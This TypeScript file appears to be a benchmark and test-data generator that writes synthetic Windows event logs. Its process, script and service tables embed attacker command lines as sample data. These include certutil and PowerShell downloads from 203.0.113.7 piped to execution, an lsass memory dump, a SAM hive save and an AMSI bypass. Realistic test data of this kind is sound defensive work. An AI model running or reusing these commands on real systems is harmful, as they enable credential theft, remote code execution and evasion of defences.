/**
 * Synthetic EVTX generator for tests and benchmarks: realistic, varied Windows events (Sysmon,
 * Security, PowerShell, System, Application) from a seeded PRNG, streamed through EvtxWriter
 * until the file reaches the requested size. Memory stays flat: one event and one chunk at a time.
 *
 *   node dist/bench/gen-evtx.js --out FILE --size-mb N [--seed S]
 */
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import {
  CHUNK_SIZE,
  EvtxWriter,
  FILE_HEADER_SIZE,
  type EvtxWriteSummary,
  type WriterEvent,
  type WriterValue,
} from '../src/sinks/evtx-writer/index.js';

const BYTE_HEX: readonly string[] = Array.from({ length: 256 }, (_, i) => i.toString(16).padStart(2, '0'));

/** mulberry32: small, fast, good enough for test data. */
class Rng {
  private state: number;
  constructor(seed: number) {
    this.state = seed >>> 0 || 0x9e3779b9;
  }
  next(): number {
    let t = (this.state = (this.state + 0x6d2b79f5) >>> 0);
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  }
  int(min: number, max: number): number {
    return min + Math.floor(this.next() * (max - min + 1));
  }
  pick<T>(items: readonly T[]): T {
    return items[Math.floor(this.next() * items.length)]!;
  }
  chance(p: number): boolean {
    return this.next() < p;
  }
  hex(digits: number): string {
    let s = '';
    while (s.length < digits) {
      const word = (this.next() * 0x100000000) >>> 0;
      s += BYTE_HEX[word & 0xff]! + BYTE_HEX[(word >>> 8) & 0xff]! + BYTE_HEX[(word >>> 16) & 0xff]! + BYTE_HEX[word >>> 24]!;
    }
    return s.length === digits ? s : s.slice(0, digits);
  }
  guid(upper = true): string {
    const h = this.hex(32);
    const g = `{${h.slice(0, 8)}-${h.slice(8, 12)}-${h.slice(12, 16)}-${h.slice(16, 20)}-${h.slice(20)}}`;
    return upper ? g.toUpperCase() : g;
  }
}

const SYSMON = { name: 'Microsoft-Windows-Sysmon', guid: '{5770385F-C22A-43E0-BF4C-06F5698FFBD9}' };
const SECURITY = { name: 'Microsoft-Windows-Security-Auditing', guid: '{54849625-5478-4994-A5BA-3E3B0328C30D}' };
const POWERSHELL = { name: 'Microsoft-Windows-PowerShell', guid: '{A0C1853B-5C40-4B15-8766-3CF1C58F985A}' };
const SCM = { name: 'Service Control Manager', guid: '{555908D1-A6D7-4695-8E1E-26931D2012F4}', eventSourceName: 'Service Control Manager' };
const EVENTLOG = { name: 'Microsoft-Windows-Eventlog', guid: '{FC65DDD8-D6EF-4962-83D5-6E5CFE9CE148}' };
const SYSMON_CHANNEL = 'Microsoft-Windows-Sysmon/Operational';

interface Host {
  readonly name: string;
  readonly domain: string;
  readonly sidPrefix: string;
  readonly ip: string;
  readonly guidPrefix: string;
}

interface Program {
  readonly image: string;
  readonly description: string;
  readonly product: string;
  readonly company: string;
  readonly original: string;
  readonly version: string;
  readonly args: readonly string[];
}

const MS = 'Microsoft Corporation';
const WINDOWS = 'Microsoft® Windows® Operating System';
const PROGRAMS: readonly Program[] = [
  { image: 'C:\\Windows\\System32\\cmd.exe', description: 'Windows Command Processor', product: WINDOWS, company: MS, original: 'Cmd.Exe', version: '10.0.19041.746 (WinBuild.160101.0800)', args: ['/c whoami /all', '/c "net user /domain"', '/c dir C:\\Users\\Public', '/c echo %COMPUTERNAME% & ipconfig /all', '/c reg save HKLM\\sam %temp%\\sam'] },
  { image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', description: 'Windows PowerShell', product: WINDOWS, company: MS, original: 'PowerShell.EXE', version: '10.0.19041.1 (WinBuild.160101.0800)', args: ['-NoProfile -ExecutionPolicy Bypass -File C:\\Scripts\\inventory.ps1', '-nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=', '-Command "Get-Process | Sort-Object CPU -Descending | Select -First 5"'] },
  { image: 'C:\\Windows\\System32\\svchost.exe', description: 'Host Process for Windows Services', product: WINDOWS, company: MS, original: 'svchost.exe', version: '10.0.19041.1202 (WinBuild.160101.0800)', args: ['-k netsvcs -p -s Schedule', '-k LocalServiceNetworkRestricted -p', '-k DcomLaunch -p'] },
  { image: 'C:\\Windows\\System32\\rundll32.exe', description: 'Windows host process (Rundll32)', product: WINDOWS, company: MS, original: 'RUNDLL32.EXE', version: '10.0.19041.1 (WinBuild.160101.0800)', args: ['C:\\Windows\\System32\\shell32.dll,Control_RunDLL', 'C:\\Users\\Public\\update.dll,DllRegisterServer', 'comsvcs.dll, MiniDump 624 C:\\Temp\\lsass.dmp full'] },
  { image: 'C:\\Windows\\System32\\certutil.exe', description: 'CertUtil.exe', product: WINDOWS, company: MS, original: 'CertUtil.exe', version: '10.0.19041.1 (WinBuild.160101.0800)', args: ['-urlcache -split -f http://203.0.113.7/a.exe C:\\Users\\Public\\a.exe', '-decode C:\\Temp\\in.b64 C:\\Temp\\out.exe'] },
  { image: 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', description: 'Google Chrome', product: 'Google Chrome', company: 'Google LLC', original: 'chrome.exe', version: '122.0.6261.95', args: ['--type=renderer --lang=en-US', '--type=gpu-process', 'https://intranet.corp.example.com/'] },
  { image: 'C:\\Windows\\System32\\schtasks.exe', description: 'Task Scheduler Configuration Tool', product: WINDOWS, company: MS, original: 'schtasks.exe', version: '10.0.19041.1 (WinBuild.160101.0800)', args: ['/create /tn Updater /tr C:\\Users\\Public\\a.exe /sc onlogon', '/query /fo LIST /v'] },
  { image: 'C:\\Windows\\System32\\net.exe', description: 'Net Command', product: WINDOWS, company: MS, original: 'net.exe', version: '10.0.19041.1 (WinBuild.160101.0800)', args: ['group "Domain Admins" /domain', 'use \\\\FS01\\share', 'localgroup administrators'] },
  { image: 'C:\\Windows\\explorer.exe', description: 'Windows Explorer', product: WINDOWS, company: MS, original: 'EXPLORER.EXE', version: '10.0.19041.1503 (WinBuild.160101.0800)', args: [''] },
  { image: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE', description: 'Microsoft Word', product: 'Microsoft Office', company: MS, original: 'WinWord.exe', version: '16.0.14326.20404', args: ['/n "C:\\Users\\alice\\Downloads\\Invoice_0423.docm"', '/safe'] },
];

const DLLS = ['ntdll.dll', 'kernel32.dll', 'KernelBase.dll', 'advapi32.dll', 'user32.dll', 'crypt32.dll', 'ws2_32.dll', 'wininet.dll', 'amsi.dll', 'clr.dll', 'vaultcli.dll', 'samlib.dll'];
const USERS = ['alice', 'bob', 'carol', 'dave', 'svc_backup', 'svc_sql', 'Administrator'];
const SPRAYED_USERS = [...USERS, 'admin', 'test', 'guest'];
const PORTS: ReadonlyArray<readonly [number, string]> = [[443, 'https'], [80, 'http'], [445, 'microsoft-ds'], [3389, 'ms-wbt-server'], [53, 'domain'], [135, 'epmap'], [5985, '']];
const REMOTE_HOSTS = ['login.microsoftonline.com', 'update.googleapis.com', 'FS01.corp.example.com', 'DC01.corp.example.com', '203.0.113.7', 'cdn.example.net'];
const LOGON_PROCESSES: ReadonlyArray<readonly [number, string, string]> = [[2, 'User32 ', 'Negotiate'], [3, 'NtLmSsp ', 'NTLM'], [3, 'Kerberos', 'Kerberos'], [5, 'Advapi  ', 'Negotiate'], [10, 'User32 ', 'Negotiate'], [7, 'User32 ', 'Negotiate']];
const PRIVILEGES = 'SeAssignPrimaryTokenPrivilege\n\t\t\tSeTcbPrivilege\n\t\t\tSeSecurityPrivilege\n\t\t\tSeTakeOwnershipPrivilege\n\t\t\tSeLoadDriverPrivilege\n\t\t\tSeBackupPrivilege\n\t\t\tSeRestorePrivilege\n\t\t\tSeDebugPrivilege\n\t\t\tSeAuditPrivilege\n\t\t\tSeSystemEnvironmentPrivilege\n\t\t\tSeImpersonatePrivilege\n\t\t\tSeDelegateSessionUserImpersonatePrivilege';
const REG_KEYS = [
  'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater',
  'HKU\\S-1-5-21-1004336348-1177238915-682003330-1104\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDrive',
  'HKLM\\System\\CurrentControlSet\\Services\\WinDefend\\Start',
  'HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\DisableAntiSpyware',
  'HKU\\.DEFAULT\\Software\\Microsoft\\Windows\\CurrentVersion\\Internet Settings\\ProxyEnable',
];
const SCRIPTS = [
  'Get-ChildItem -Path C:\\Users -Recurse -Filter *.kdbx -ErrorAction SilentlyContinue',
  "$c = New-Object System.Net.WebClient; $c.DownloadString('http://203.0.113.7/p.ps1') | IEX",
  'Import-Module ActiveDirectory; Get-ADUser -Filter * -Properties LastLogonDate | Export-Csv C:\\Temp\\users.csv',
  'function Invoke-Inventory {\r\n  param([string]$Path)\r\n  Get-WmiObject Win32_Product | Select-Object Name, Version\r\n}\r\nInvoke-Inventory -Path C:\\Temp',
  '[Ref].Assembly.GetType(\'System.Management.Automation.AmsiUtils\').GetField(\'amsiInitFailed\',\'NonPublic,Static\').SetValue($null,$true)',
];
const SERVICES: ReadonlyArray<readonly [string, string]> = [
  ['PSEXESVC', '%SystemRoot%\\PSEXESVC.exe'],
  ['UpdaterSvc', 'C:\\Users\\Public\\a.exe -svc'],
  ['VMware Tools', '"C:\\Program Files\\VMware\\VMware Tools\\vmtoolsd.exe"'],
  ['WinRM helper', 'cmd.exe /c powershell -nop -w hidden -enc SQBFAFgA'],
];

interface State {
  readonly rng: Rng;
  readonly hosts: readonly Host[];
  /** Milliseconds since the epoch, and 100 ns ticks within the millisecond. */
  ms: number;
  sub: number;
  recordId: number;
}

let isoSecond = NaN;
let isoSecondText = '';

function isoTime(s: State): string {
  const second = Math.floor(s.ms / 1000);
  if (second !== isoSecond) {
    isoSecond = second;
    isoSecondText = new Date(second * 1000).toISOString().slice(0, 20);
  }
  return isoSecondText + String((s.ms % 1000) * 10000 + s.sub).padStart(7, '0') + 'Z';
}

/** Sysmon's UtcTime text: `2024-03-01 08:00:01.123`. */
function utcTime(s: State, offsetMs = 0): string {
  return new Date(s.ms - offsetMs).toISOString().slice(0, 23).replace('T', ' ');
}

function processGuid(s: State, host: Host): WriterValue {
  return { type: 'guid', value: `{${host.guidPrefix}-${s.rng.hex(4)}-${s.rng.hex(4)}-${s.rng.hex(4)}-${s.rng.hex(12)}}`.toUpperCase() };
}

function hashes(rng: Rng): string {
  return `SHA1=${rng.hex(40)},MD5=${rng.hex(32)},SHA256=${rng.hex(64)},IMPHASH=${rng.hex(32)}`.toUpperCase();
}

function userSid(host: Host, user: string): string {
  return user === 'Administrator' ? `${host.sidPrefix}-500` : `${host.sidPrefix}-${1100 + USERS.indexOf(user)}`;
}

function sysmonBase(s: State, host: Host, eventId: number, version: number): Omit<WriterEvent, 'eventData'> {
  return {
    provider: SYSMON,
    eventId,
    version,
    level: 4,
    task: eventId,
    opcode: 0,
    keywords: 0x8000000000000000n,
    timeCreated: isoTime(s),
    execution: { processId: 3012, threadId: s.rng.int(3000, 9000) },
    channel: SYSMON_CHANNEL,
    computer: `${host.name}.${host.domain}`,
    userId: 'S-1-5-18',
  };
}

function securityBase(s: State, host: Host, eventId: number, version: number, task: number, failure = false): Omit<WriterEvent, 'eventData'> {
  return {
    provider: SECURITY,
    eventId,
    version,
    level: 0,
    task,
    opcode: 0,
    keywords: failure ? 0x8010000000000000n : 0x8020000000000000n,
    timeCreated: isoTime(s),
    execution: { processId: 636, threadId: s.rng.int(600, 8000) },
    channel: 'Security',
    computer: `${host.name}.${host.domain}`,
  };
}

function domainUser(host: Host, user: string): string {
  return `${host.domain.split('.')[0]!.toUpperCase()}\\${user}`;
}

type Maker = (s: State, host: Host) => WriterEvent;

const sysmon1: Maker = (s, host) => {
  const { rng } = s;
  const p = rng.pick(PROGRAMS);
  const parent = rng.pick(PROGRAMS);
  const user = rng.pick(USERS);
  const arg = rng.pick(p.args);
  return {
    ...sysmonBase(s, host, 1, 5),
    eventData: [
      ['RuleName', rng.chance(0.2) ? 'technique_id=T1059,technique_name=Command and Scripting Interpreter' : '-'],
      ['UtcTime', utcTime(s, 2)],
      ['ProcessGuid', processGuid(s, host)],
      ['ProcessId', rng.int(400, 12000)],
      ['Image', p.image],
      ['FileVersion', p.version],
      ['Description', p.description],
      ['Product', p.product],
      ['Company', p.company],
      ['OriginalFileName', p.original],
      ['CommandLine', arg === '' ? p.image : `"${p.image}" ${arg}`],
      ['CurrentDirectory', rng.pick(['C:\\Windows\\system32\\', `C:\\Users\\${user}\\`, 'C:\\Temp\\'])],
      ['User', domainUser(host, user)],
      ['LogonGuid', processGuid(s, host)],
      ['LogonId', { type: 'hex64', value: rng.int(0x10000, 0xfffffff) }],
      ['TerminalSessionId', rng.int(0, 3)],
      ['IntegrityLevel', rng.pick(['Medium', 'High', 'System'])],
      ['Hashes', hashes(rng)],
      ['ParentProcessGuid', processGuid(s, host)],
      ['ParentProcessId', rng.int(400, 12000)],
      ['ParentImage', parent.image],
      ['ParentCommandLine', `"${parent.image}" ${rng.pick(parent.args)}`.trimEnd()],
      ['ParentUser', domainUser(host, rng.pick(USERS))],
    ],
  };
};

const sysmon3: Maker = (s, host) => {
  const { rng } = s;
  const p = rng.pick(PROGRAMS);
  const [port, portName] = rng.pick(PORTS);
  const remote = rng.pick(REMOTE_HOSTS);
  const remoteIp = /^\d/.test(remote) ? remote : `10.${rng.int(0, 20)}.${rng.int(0, 255)}.${rng.int(1, 254)}`;
  return {
    ...sysmonBase(s, host, 3, 5),
    eventData: [
      ['RuleName', '-'],
      ['UtcTime', utcTime(s, 40)],
      ['ProcessGuid', processGuid(s, host)],
      ['ProcessId', rng.int(400, 12000)],
      ['Image', p.image],
      ['User', domainUser(host, rng.pick(USERS))],
      ['Protocol', rng.chance(0.9) ? 'tcp' : 'udp'],
      ['Initiated', rng.chance(0.8)],
      ['SourceIsIpv6', false],
      ['SourceIp', host.ip],
      ['SourceHostname', `${host.name}.${host.domain}`],
      ['SourcePort', { type: 'uint16', value: rng.int(49152, 65535) }],
      ['SourcePortName', '-'],
      ['DestinationIsIpv6', false],
      ['DestinationIp', remoteIp],
      ['DestinationHostname', /^\d/.test(remote) ? '-' : remote],
      ['DestinationPort', { type: 'uint16', value: port }],
      ['DestinationPortName', portName === '' ? '-' : portName],
    ],
  };
};

const sysmon7: Maker = (s, host) => {
  const { rng } = s;
  const p = rng.pick(PROGRAMS);
  const dll = rng.pick(DLLS);
  const signed = rng.chance(0.95);
  return {
    ...sysmonBase(s, host, 7, 3),
    eventData: [
      ['RuleName', '-'],
      ['UtcTime', utcTime(s, 1)],
      ['ProcessGuid', processGuid(s, host)],
      ['ProcessId', rng.int(400, 12000)],
      ['Image', p.image],
      ['ImageLoaded', `C:\\Windows\\System32\\${dll}`],
      ['FileVersion', '10.0.19041.1 (WinBuild.160101.0800)'],
      ['Description', dll.replace('.dll', '').toUpperCase() + ' Library'],
      ['Product', WINDOWS],
      ['Company', MS],
      ['OriginalFileName', dll],
      ['Hashes', hashes(rng)],
      ['Signed', signed ? 'true' : 'false'],
      ['Signature', signed ? 'Microsoft Windows' : '-'],
      ['SignatureStatus', signed ? 'Valid' : 'Unavailable'],
      ['User', 'NT AUTHORITY\\SYSTEM'],
    ],
  };
};

const sysmon11: Maker = (s, host) => {
  const { rng } = s;
  const p = rng.pick(PROGRAMS);
  const user = rng.pick(USERS);
  const file = rng.pick([`C:\\Users\\${user}\\AppData\\Local\\Temp\\${rng.hex(8)}.tmp`, `C:\\Users\\${user}\\Downloads\\report_${rng.int(1, 999)}.docm`, `C:\\Windows\\Prefetch\\CMD.EXE-${rng.hex(8).toUpperCase()}.pf`, 'C:\\Users\\Public\\a.exe']);
  return {
    ...sysmonBase(s, host, 11, 2),
    eventData: [
      ['RuleName', '-'],
      ['UtcTime', utcTime(s, 1)],
      ['ProcessGuid', processGuid(s, host)],
      ['ProcessId', rng.int(400, 12000)],
      ['Image', p.image],
      ['TargetFilename', file],
      ['CreationUtcTime', utcTime(s, rng.int(0, 86400000))],
      ['User', domainUser(host, user)],
    ],
  };
};

const sysmon13: Maker = (s, host) => {
  const { rng } = s;
  const p = rng.pick(PROGRAMS);
  return {
    ...sysmonBase(s, host, 13, 2),
    eventData: [
      ['RuleName', rng.chance(0.5) ? 'technique_id=T1547.001,technique_name=Registry Run Keys / Start Folder' : '-'],
      ['EventType', 'SetValue'],
      ['UtcTime', utcTime(s, 1)],
      ['ProcessGuid', processGuid(s, host)],
      ['ProcessId', rng.int(400, 12000)],
      ['Image', p.image],
      ['TargetObject', rng.pick(REG_KEYS)],
      ['Details', rng.pick(['DWORD (0x00000001)', 'DWORD (0x00000004)', '"C:\\Users\\Public\\a.exe"', 'Binary Data'])],
      ['User', domainUser(host, rng.pick(USERS))],
    ],
  };
};

function subject(host: Host, rng: Rng, system = true): Array<readonly [string, WriterValue]> {
  if (system) {
    return [
      ['SubjectUserSid', { type: 'sid', value: 'S-1-5-18' }],
      ['SubjectUserName', `${host.name.toUpperCase()}$`],
      ['SubjectDomainName', host.domain.split('.')[0]!.toUpperCase()],
      ['SubjectLogonId', { type: 'hex64', value: 0x3e7 }],
    ];
  }
  const user = rng.pick(USERS);
  return [
    ['SubjectUserSid', { type: 'sid', value: userSid(host, user) }],
    ['SubjectUserName', user],
    ['SubjectDomainName', host.domain.split('.')[0]!.toUpperCase()],
    ['SubjectLogonId', { type: 'hex64', value: rng.int(0x10000, 0xfffffff) }],
  ];
}

const sec4624: Maker = (s, host) => {
  const { rng } = s;
  const user = rng.pick(USERS);
  const [logonType, process, pkg] = rng.pick(LOGON_PROCESSES);
  const remote = logonType === 3 || logonType === 10;
  return {
    ...securityBase(s, host, 4624, 2, 12544),
    eventData: [
      ...subject(host, rng),
      ['TargetUserSid', { type: 'sid', value: userSid(host, user) }],
      ['TargetUserName', user],
      ['TargetDomainName', host.domain.split('.')[0]!.toUpperCase()],
      ['TargetLogonId', { type: 'hex64', value: rng.int(0x10000, 0xfffffff) }],
      ['LogonType', logonType],
      ['LogonProcessName', process],
      ['AuthenticationPackageName', pkg],
      ['WorkstationName', remote ? rng.pick(['WKS-07', 'WKS-12', '-']) : host.name],
      ['LogonGuid', { type: 'guid', value: pkg === 'Kerberos' ? rng.guid() : '{00000000-0000-0000-0000-000000000000}' }],
      ['TransmittedServices', '-'],
      ['LmPackageName', pkg === 'NTLM' ? 'NTLM V2' : '-'],
      ['KeyLength', pkg === 'NTLM' ? 128 : 0],
      ['ProcessId', { type: 'hex64', value: remote ? 0 : 0x26c }],
      ['ProcessName', remote ? '-' : 'C:\\Windows\\System32\\winlogon.exe'],
      ['IpAddress', remote ? `10.0.${rng.int(0, 20)}.${rng.int(1, 254)}` : '127.0.0.1'],
      ['IpPort', remote ? String(rng.int(49152, 65535)) : '0'],
      ['ImpersonationLevel', '%%1833'],
      ['RestrictedAdminMode', '-'],
      ['TargetOutboundUserName', '-'],
      ['TargetOutboundDomainName', '-'],
      ['VirtualAccount', '%%1843'],
      ['TargetLinkedLogonId', { type: 'hex64', value: 0 }],
      ['ElevatedToken', rng.pick(['%%1842', '%%1843'])],
    ],
  };
};

const sec4625: Maker = (s, host) => {
  const { rng } = s;
  return {
    ...securityBase(s, host, 4625, 0, 12544, true),
    eventData: [
      ...subject(host, rng),
      ['TargetUserSid', { type: 'sid', value: 'S-1-0-0' }],
      ['TargetUserName', rng.pick(SPRAYED_USERS)],
      ['TargetDomainName', rng.pick(['CORP', '.', ''])],
      ['Status', { type: 'hex32', value: 0xc000006d }],
      ['FailureReason', '%%2313'],
      ['SubStatus', { type: 'hex32', value: rng.pick([0xc000006a, 0xc0000064, 0xc0000072]) }],
      ['LogonType', rng.pick([3, 10])],
      ['LogonProcessName', 'NtLmSsp '],
      ['AuthenticationPackageName', 'NTLM'],
      ['WorkstationName', rng.pick(['KALI', '-', 'WKS-07'])],
      ['TransmittedServices', '-'],
      ['LmPackageName', '-'],
      ['KeyLength', 0],
      ['ProcessId', { type: 'hex64', value: 0 }],
      ['ProcessName', '-'],
      ['IpAddress', `203.0.113.${rng.int(1, 254)}`],
      ['IpPort', String(rng.int(1024, 65535))],
    ],
  };
};

const sec4688: Maker = (s, host) => {
  const { rng } = s;
  const p = rng.pick(PROGRAMS);
  const parent = rng.pick(PROGRAMS);
  const arg = rng.pick(p.args);
  return {
    ...securityBase(s, host, 4688, 2, 13312),
    eventData: [
      ...subject(host, rng, rng.chance(0.3)),
      ['NewProcessId', { type: 'hex64', value: rng.int(0x100, 0x3fff) }],
      ['NewProcessName', p.image],
      ['TokenElevationType', rng.pick(['%%1936', '%%1937', '%%1938'])],
      ['ProcessId', { type: 'hex64', value: rng.int(0x100, 0x3fff) }],
      ['CommandLine', arg === '' ? p.image : `"${p.image}" ${arg}`],
      ['TargetUserSid', { type: 'sid', value: 'S-1-0-0' }],
      ['TargetUserName', '-'],
      ['TargetDomainName', '-'],
      ['TargetLogonId', { type: 'hex64', value: 0 }],
      ['ParentProcessName', parent.image],
      ['MandatoryLabel', { type: 'sid', value: rng.pick(['S-1-16-8192', 'S-1-16-12288', 'S-1-16-16384']) }],
    ],
  };
};

const sec4689: Maker = (s, host) => {
  const { rng } = s;
  return {
    ...securityBase(s, host, 4689, 0, 13313),
    eventData: [
      ...subject(host, rng, rng.chance(0.5)),
      ['Status', { type: 'hex32', value: rng.chance(0.9) ? 0 : 1 }],
      ['ProcessId', { type: 'hex64', value: rng.int(0x100, 0x3fff) }],
      ['ProcessName', rng.pick(PROGRAMS).image],
    ],
  };
};

const sec4672: Maker = (s, host) => ({
  ...securityBase(s, host, 4672, 0, 12548),
  eventData: [...subject(host, s.rng, s.rng.chance(0.6)), ['PrivilegeList', PRIVILEGES]],
});

const sec1102: Maker = (s, host) => ({
  provider: EVENTLOG,
  eventId: 1102,
  version: 0,
  level: 4,
  task: 104,
  opcode: 0,
  keywords: 0x4020000000000000n,
  timeCreated: isoTime(s),
  execution: { processId: 1292, threadId: s.rng.int(1000, 6000) },
  channel: 'Security',
  computer: `${host.name}.${host.domain}`,
  userData: {
    element: 'LogFileCleared',
    xmlns: 'http://manifests.microsoft.com/win/2004/08/windows/eventlog',
    fields: subject(host, s.rng, false),
  },
});

const ps4104: Maker = (s, host) => {
  const { rng } = s;
  const script = rng.pick(SCRIPTS);
  const repeat = rng.chance(0.1) ? rng.int(5, 40) : 1;
  const user = rng.pick(USERS);
  return {
    provider: POWERSHELL,
    eventId: 4104,
    version: 1,
    level: rng.chance(0.3) ? 3 : 5,
    task: 2,
    opcode: 15,
    keywords: 0x0n,
    timeCreated: isoTime(s),
    correlation: { activityId: rng.guid() },
    execution: { processId: rng.int(400, 12000), threadId: rng.int(400, 12000) },
    channel: 'Microsoft-Windows-PowerShell/Operational',
    computer: `${host.name}.${host.domain}`,
    userId: userSid(host, user),
    eventData: [
      ['MessageNumber', { type: 'int32', value: 1 }],
      ['MessageTotal', { type: 'int32', value: 1 }],
      ['ScriptBlockText', Array.from({ length: repeat }, () => script).join('\r\n')],
      ['ScriptBlockId', rng.guid(false).slice(1, -1)],
      ['Path', rng.chance(0.5) ? `C:\\Users\\${user}\\Documents\\task.ps1` : ''],
    ],
  };
};

const sys7045: Maker = (s, host) => {
  const { rng } = s;
  const [name, path] = rng.pick(SERVICES);
  return {
    provider: SCM,
    eventId: 7045,
    qualifiers: 16384,
    version: 0,
    level: 4,
    task: 0,
    opcode: 0,
    keywords: 0x8080000000000000n,
    timeCreated: isoTime(s),
    execution: { processId: 788, threadId: rng.int(800, 9000) },
    channel: 'System',
    computer: `${host.name}.${host.domain}`,
    userId: userSid(host, 'Administrator'),
    eventData: [
      ['ServiceName', name],
      ['ImagePath', path],
      ['ServiceType', 'user mode service'],
      ['StartType', rng.pick(['demand start', 'auto start'])],
      ['AccountName', 'LocalSystem'],
    ],
  };
};

const app1000: Maker = (s, host) => {
  const { rng } = s;
  const p = rng.pick(PROGRAMS);
  const exe = p.image.slice(p.image.lastIndexOf('\\') + 1);
  return {
    provider: { name: 'Application Error', eventSourceName: 'Application Error' },
    eventId: 1000,
    qualifiers: 0,
    version: 0,
    level: 2,
    task: 100,
    opcode: 0,
    keywords: 0x80000000000000n,
    timeCreated: isoTime(s),
    channel: 'Application',
    computer: `${host.name}.${host.domain}`,
    // Classic events: unnamed Data elements.
    eventData: [
      ['', exe],
      ['', p.version.split(' ')[0]!],
      ['', rng.hex(8)],
      ['', 'ntdll.dll'],
      ['', '10.0.19041.1466'],
      ['', rng.hex(8)],
      ['', 'c0000005'],
      ['', `0x${rng.hex(16)}`],
      ['', rng.hex(4)],
      ['', `0x${rng.hex(16)}`],
      ['', p.image],
      ['', 'C:\\Windows\\SYSTEM32\\ntdll.dll'],
      ['', rng.guid(false).slice(1, -1)],
      ['', ''],
      ['', ''],
    ],
  };
};

const app11707: Maker = (s, host) => ({
  provider: { name: 'MsiInstaller', eventSourceName: 'MsiInstaller' },
  eventId: 11707,
  qualifiers: 0,
  version: 0,
  level: 4,
  task: 0,
  opcode: 0,
  keywords: 0x80000000000000n,
  timeCreated: isoTime(s),
  channel: 'Application',
  computer: `${host.name}.${host.domain}`,
  userId: userSid(host, s.rng.pick(USERS)),
  eventData: [
    ['', `Product: ${s.rng.pick(['7-Zip 23.01 (x64 edition)', 'Google Chrome', 'Notepad++ (64-bit x64)'])} -- Installation completed successfully.`],
    ['', '(NULL)'],
    ['', ''],
    ['', ''],
  ],
});

/** Weighted mix, roughly what a Sysmon-equipped workstation fleet logs. */
const MIX: ReadonlyArray<readonly [number, Maker]> = [
  [12, sysmon1],
  [12, sysmon3],
  [15, sysmon7],
  [10, sysmon11],
  [10, sysmon13],
  [8, sec4624],
  [3, sec4625],
  [10, sec4688],
  [8, sec4689],
  [5, sec4672],
  [4, ps4104],
  [1, sys7045],
  [1.5, app1000],
  [0.5, app11707],
  [0.2, sec1102],
];
const MIX_TOTAL = MIX.reduce((a, [w]) => a + w, 0);

function makeHosts(rng: Rng): Host[] {
  const names = ['WKS-01', 'WKS-07', 'WKS-12', 'DC01', 'SRV-WEB01', 'FS01'];
  return names.map((name, i) => ({
    name,
    domain: 'corp.example.com',
    sidPrefix: 'S-1-5-21-1004336348-1177238915-682003330',
    ip: `10.0.${i + 1}.${rng.int(10, 250)}`,
    guidPrefix: rng.hex(8),
  }));
}

/** Endless stream of events from `seed`; each call starts the same sequence. */
export function* eventStream(seed: number): Generator<WriterEvent> {
  const rng = new Rng(seed);
  const state: State = { rng, hosts: makeHosts(rng), ms: Date.UTC(2024, 2, 1, 8, 0, 0), sub: 0, recordId: 1 };
  for (;;) {
    state.ms += rng.int(0, 1500);
    state.sub = rng.int(0, 9999);
    const host = rng.pick(state.hosts);
    let roll = rng.next() * MIX_TOTAL;
    let maker = MIX[0]![1];
    for (const [w, m] of MIX) {
      if (roll < w) {
        maker = m;
        break;
      }
      roll -= w;
    }
    yield { ...maker(state, host), recordId: state.recordId++ };
  }
}

export function generateEvents(seed: number, count: number): WriterEvent[] {
  const out: WriterEvent[] = [];
  for (const e of eventStream(seed)) {
    if (out.length >= count) break;
    out.push(e);
  }
  return out;
}

export interface GenerateFileResult {
  readonly records: number;
  readonly chunks: number;
  readonly bytes: number;
  readonly seconds: number;
  /** CPU time (user + system) of this process while generating: steadier than wall time on a busy box. */
  readonly cpuSeconds: number;
}

/**
 * Where the benches keep their generated file of `sizeMb` MB (seed 1) in `dir`: one name, so
 * bench/run.ts and bench/hunt.ts each reuse the file the other made.
 */
export function benchDataFile(dir: string, sizeMb: number): string {
  return path.join(dir, `generated-${sizeMb}mb.evtx`);
}

/** Streams events into `out` until the file holds at least `sizeBytes`. */
export function generateFile(out: string, sizeBytes: number, seed: number): GenerateFileResult {
  const started = process.hrtime.bigint();
  const cpuStart = process.cpuUsage();
  const chunks = Math.max(1, Math.ceil((sizeBytes - FILE_HEADER_SIZE) / CHUNK_SIZE));
  const writer = EvtxWriter.toFile(out, { maxChunks: chunks });
  let summary: EvtxWriteSummary;
  try {
    for (const e of eventStream(seed)) if (!writer.add(e)) break;
  } finally {
    summary = writer.close();
  }
  const seconds = Number(process.hrtime.bigint() - started) / 1e9;
  const cpu = process.cpuUsage(cpuStart);
  const cpuSeconds = (cpu.user + cpu.system) / 1e6;
  return { records: summary.records, chunks: summary.chunks, bytes: summary.bytes, seconds, cpuSeconds };
}

function parseArgs(argv: readonly string[]): { out: string; sizeMb: number; seed: number } {
  let out: string | undefined;
  let sizeMb: number | undefined;
  let seed = 1;
  for (let i = 0; i < argv.length; i++) {
    const a = argv[i];
    const next = (): string => {
      const v = argv[++i];
      if (v === undefined) throw new Error(`${a} needs a value`);
      return v;
    };
    if (a === '--out') out = next();
    else if (a === '--size-mb') sizeMb = Number(next());
    else if (a === '--seed') seed = Number(next());
    else throw new Error(`unknown argument ${a}`);
  }
  if (out === undefined || sizeMb === undefined || !(sizeMb > 0) || !Number.isInteger(seed)) {
    throw new Error('usage: gen-evtx --out FILE --size-mb N [--seed S]');
  }
  return { out, sizeMb, seed };
}

function main(): void {
  let args;
  try {
    args = parseArgs(process.argv.slice(2));
  } catch (err) {
    process.stderr.write(`${(err as Error).message}\n`);
    process.exitCode = 2;
    return;
  }
  const r = generateFile(args.out, Math.ceil(args.sizeMb * 1024 * 1024), args.seed);
  const mb = r.bytes / (1024 * 1024);
  process.stdout.write(
    `${args.out}: ${r.records} records, ${r.chunks} chunks, ${mb.toFixed(1)} MiB in ${r.seconds.toFixed(2)} s ` +
      `(${(mb / r.seconds).toFixed(1)} MiB/s, ${Math.round(r.records / r.seconds)} events/s; ` +
      `CPU ${r.cpuSeconds.toFixed(2)} s = ${(mb / r.cpuSeconds).toFixed(1)} MiB/s)\n`,
  );
}

